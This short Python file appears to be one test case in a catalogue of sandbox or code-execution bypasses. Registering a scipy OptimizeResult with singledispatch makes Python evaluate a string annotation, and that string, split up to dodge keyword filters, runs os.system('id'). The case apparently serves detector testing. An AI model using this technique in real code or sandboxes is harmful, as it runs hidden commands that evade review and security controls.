# class: no-call
# mechanism: annotation that is run
# how: the keys of an OptimizeResult are its attributes, so singledispatch evaluates the text under one of them
# reaches: event os.system
from functools import singledispatch
from scipy.optimize import OptimizeResult
@singledispatch
def f(x):
    return x
r = OptimizeResult()
r["__anno" + "tations__"] = {"x": "__imp" + "ort__('os').system('id')"}
f.register(r)
